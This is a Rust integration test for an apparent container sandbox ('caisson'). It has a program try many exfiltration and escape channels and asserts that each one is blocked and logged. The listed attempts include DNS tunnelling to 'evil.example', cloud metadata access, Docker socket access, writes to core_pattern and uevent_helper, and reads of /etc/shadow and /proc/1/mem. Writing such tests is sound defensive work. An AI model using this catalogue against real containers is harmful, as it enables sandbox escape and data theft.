//! A server that tries every channel there is to carry a word out, while this test listens at the other ends.

use std::{
    fs,
    io::Read as _,
    net::{IpAddr, SocketAddr, TcpListener, UdpSocket},
    os::{
        linux::net::SocketAddrExt as _,
        unix::{
            fs::PermissionsExt as _,
            net::{SocketAddr as UnixAddr, UnixListener},
        },
    },
    time::Duration,
};

use caisson_tests::{Home, home::eventually, images, programs};
use serde_json::{Value, json};

use super::{has_recorded, must, neighbour_is_well, recorded};

on_engines!([podman docker rootless] gets_nothing_out);
on_engines!([docker] gets_nothing_out_of_gvisor);

const WORD: &[u8] = b"the-word-that-must-not-get-out";
const SECRET: &str = "csn-test-51d0c9a7e4b83f26";

fn gets_nothing_out(home: &Home) {
    tries_all(home, &["/proc/1/environ"], &[]);
}

/// There the airlock's own variables can be read: it has none but what the engine gives every container.
fn gets_nothing_out_of_gvisor(home: &Home) {
    tries_all(home, &[], &["--runtime", "runsc"]);
}

/// The other ends, on every address this machine has.
struct Listeners {
    tcp: Vec<TcpListener>,
    udp: Vec<UdpSocket>,
    hidden: UnixListener,
    name: String,
    port: u16,
}

impl Listeners {
    fn open() -> Self {
        let first = TcpListener::bind("0.0.0.0:0").unwrap();
        let port = first.local_addr().unwrap().port();
        let mut tcp = vec![first];
        // Where this machine has no IPv6 there is nothing to listen on.
        tcp.extend(TcpListener::bind(("::1", port)));
        let mut udp = vec![UdpSocket::bind(("0.0.0.0", port)).unwrap()];
        udp.extend(UdpSocket::bind(("::1", port)));
        let name = format!("caisson-test-{port}");
        let hidden = UnixListener::bind_addr(&UnixAddr::from_abstract_name(&name).unwrap()).unwrap();
        tcp.iter().for_each(|listener| listener.set_nonblocking(true).unwrap());
        udp.iter().for_each(|socket| socket.set_nonblocking(true).unwrap());
        hidden.set_nonblocking(true).unwrap();
        Self { tcp, udp, hidden, name, port }
    }

    /// They can be reached, from here.
    fn hear(&self) {
        std::net::TcpStream::connect(("127.0.0.1", self.port)).unwrap();
        let (mut stream, _) = self.tcp[0].accept().unwrap();
        assert_eq!(stream.read(&mut [0; 8]).unwrap(), 0);
        UdpSocket::bind("127.0.0.1:0").unwrap().send_to(b"x", ("127.0.0.1", self.port)).unwrap();
        std::thread::sleep(Duration::from_millis(100));
        assert_eq!(self.udp[0].recv(&mut [0; 8]).unwrap(), 1);
    }

    fn heard_nothing(&self) {
        assert!(self.tcp.iter().all(|listener| listener.accept().is_err()), "a connection came");
        assert!(self.udp.iter().all(|socket| socket.recv(&mut [0; 64]).is_err()), "a packet came");
        assert!(self.hidden.accept().is_err(), "a connection came to the abstract socket");
    }
}

/// All addresses this machine has, and where containers usually find their host.
fn addresses() -> Vec<IpAddr> {
    let here = must("hostname", &["-I"]);
    let here = here.split_whitespace().filter_map(|address| address.parse().ok());
    let usual = [
        "127.0.0.1",
        "10.0.2.2",
        "10.0.2.3",
        "10.88.0.1",
        "172.17.0.1",
        "169.254.1.2",
        "192.168.65.2",
        "::1",
    ];
    here.chain(usual.into_iter().filter_map(|address| address.parse().ok())).collect()
}

fn install(home: &Home, more: &[&str]) {
    let folder = home.path().join("exfiltrates");
    let (open, closed) = (home.path().join("open"), home.path().join("closed"));
    for path in [&folder, &open, &closed] {
        fs::create_dir(path).unwrap();
        fs::set_permissions(path, fs::Permissions::from_mode(0o755)).unwrap();
    }
    fs::write(closed.join("note"), "mine").unwrap();
    if let Some(user) = home.engine().user() {
        must("chown", &["-R", &format!("{user}:{user}"), &open.to_string_lossy(), &closed.to_string_lossy()]);
    }
    fs::copy(programs::exfiltrates(), folder.join("exfiltrates")).unwrap();
    images::write_dockerfile(&folder, "COPY exfiltrates /\nENTRYPOINT [\"/exfiltrates\"]\n");
    let folder = folder.to_string_lossy();
    let (open, closed) =
        (format!("{}:/workspace/open:rw", open.display()), format!("{}:/workspace/closed", closed.display()));
    // The keychain of these tests is not that of another user.
    let secret: &[&str] = if home.engine().user().is_none() { &["--secret", "API_KEY"] } else { &[] };
    let args = ["install", &folder, "--name", "exfiltrates", "--yes", "--host", "granted.example"];
    let folders = ["--folder", &open, "--folder", &closed];
    home.caisson(&[&args[..], &folders, secret, more].concat()).ok();
    if !secret.is_empty() {
        home.caisson_with(&["secret", "set", "exfiltrates", "API_KEY"], SECRET.as_bytes()).ok();
    }
}

fn tries_all(home: &Home, closed: &[&str], more: &[&str]) {
    super::install_neighbour(home);
    home.caisson(&["start", "example"]).ok();
    install(home, more);
    let listeners = Listeners::open();
    listeners.hear();
    let port = listeners.port;

    let mut tries: Vec<[String; 2]> = Vec::new();
    let mut add = |how: &str, to: String| tries.push([how.to_owned(), to]);
    for address in addresses() {
        let to = SocketAddr::new(address, port).to_string();
        add("tcp", to.clone());
        add("proxy", to.clone());
        add("get", to.clone());
        if !address.is_loopback() {
            add("udp", to.clone());
        }
        if address.is_ipv4() {
            add("raw", to.clone());
            if !address.is_loopback() {
                add("icmp", to);
            }
        }
    }
    for to in
        ["169.254.169.254:80", "192.0.2.1:443", "[2001:db8::1]:443", "224.0.0.251:5353", "255.255.255.255:67"]
    {
        add("tcp", to.to_owned());
        add("udp", to.to_owned());
        add("proxy", to.to_owned());
    }
    for to in [
        "host.docker.internal",
        "host.containers.internal",
        "localhost",
        "metadata.google.internal",
        "evil.example",
    ] {
        add("proxy", format!("{to}:{port}"));
        add("get", format!("{to}:{port}"));
        // Its own loopback is what every machine calls so (RFC 6761).
        if to != "localhost" {
            add("dns", format!("1 {to}"));
        }
    }
    // The granted name, on a port that was not granted; and names that only look like it.
    for to in [
        "granted.example:22",
        "granted.example.evil.example:443",
        "xgranted.example:443",
        "granted.example@127.0.0.1:443",
    ] {
        add("proxy", to.to_owned());
    }
    // Words in labels, for whoever answers for the domain; every type that carries text.
    let word = String::from_utf8_lossy(WORD);
    for kind in [1, 5, 10, 16, 28, 33, 65, 255] {
        add("dns", format!("{kind} {word}.{}.evil.example", "x".repeat(63)));
        add("dns", format!("{kind} {word}.granted.example"));
    }
    for kind in [5, 10, 16, 33, 65] {
        add("dns", format!("{kind} granted.example"));
    }
    for server in ["8.8.8.8:53", "10.0.2.3:53", "169.254.169.254:53"] {
        add("dns", format!("16 {word}.evil.example {server}"));
    }
    add("abstract", listeners.name.clone());
    for name in ["/tmp/.X11-unix/X0", "/containerd-shim", "dbus"] {
        add("abstract", name.to_owned());
    }
    let socket = home.socket().display().to_string();
    let control = home.path().join("run/control.sock").display().to_string();
    for path in [
        &socket,
        &control,
        "/var/run/docker.sock",
        "/run/docker.sock",
        "/run/podman/podman.sock",
        "/caisson-pipe/sock",
    ] {
        add("unix", path.to_owned());
    }
    // AF_PACKET, AF_BLUETOOTH, AF_ALG, AF_VSOCK, AF_XDP, AF_CAN, AF_KEY, AF_TIPC.
    for family in [17, 31, 38, 40, 44, 29, 15, 30] {
        add("family", family.to_string());
    }
    let other = home.path().display().to_string();
    for path in [
        "/word",
        "/etc/word",
        "/caisson/word",
        "/caisson-pipe/word",
        "/proc/sys/kernel/core_pattern",
        "/proc/sysrq-trigger",
        "/sys/kernel/uevent_helper",
        "/workspace/word",
        "/workspace/closed/word",
        "/workspace/closed/note",
        "/workspace/open/../word",
    ] {
        add("write", path.to_owned());
    }
    for path in [
        "/workspace/open/../closed/../../etc/shadow",
        "/proc/1/mem",
        "/proc/1/root/etc/shadow",
        "/proc/kcore",
        "/proc/kallsyms.",
        "/dev/mem",
        "/dev/kmsg",
        "/workspace/closed/../../run/secrets/AS_FILE",
        &*other,
    ] {
        add("read", path.to_owned());
    }
    for path in closed {
        add("read", (*path).to_owned());
    }
    add("link", "/workspace/open/link".to_owned());

    let said = home.call_text("exfiltrates", "try", &json!({"tries": tries}));
    let said: Vec<Value> = serde_json::from_str(&said).unwrap_or_else(|error| panic!("{error}: {said}"));
    assert_eq!(said.len(), tries.len());
    let out: Vec<&Value> = said.iter().filter(|one| one["out"] == true).collect();
    assert!(out.is_empty(), "of {} tries these got out: {out:#?}", said.len());
    listeners.heard_nothing();
    // A link in a granted folder leads where it leads inside.
    assert!(!fs::exists(home.path().join("word")).unwrap());
    assert_eq!(fs::read_to_string(home.path().join("closed/note")).unwrap(), "mine");

    let logs = home.caisson(&["logs", "exfiltrates"]).ok();
    // What was refused stands in its log, for its user to read.
    assert!(logs.contains("refused a connection to evil.example"), "{logs}");
    let record = recorded(home, "exfiltrates");
    for host in ["evil.example", "169.254.169.254", "granted.example"] {
        let refused = |entry: &Value| entry["what"] == "refused" && entry["host"] == host;
        assert!(record.iter().any(refused), "{host}: {record:#?}");
    }
    assert!(!has_recorded(home, "exfiltrates", "connected"), "{record:#?}");
    if home.engine().user().is_none() {
        let logged = home.call_text("exfiltrates", "try", &json!({"tries": [["log", "API_KEY"]]}));
        assert!(logged.contains("written"), "{logged}");
        // What it writes to its log comes another way than its answer.
        eventually(Duration::from_secs(10), "it wrote to its log", || {
            home.caisson(&["logs", "exfiltrates"]).ok().contains("the value is")
        });
        assert!(!home.caisson(&["logs", "exfiltrates"]).ok().contains(SECRET));
    }
    neighbour_is_well(home);
}
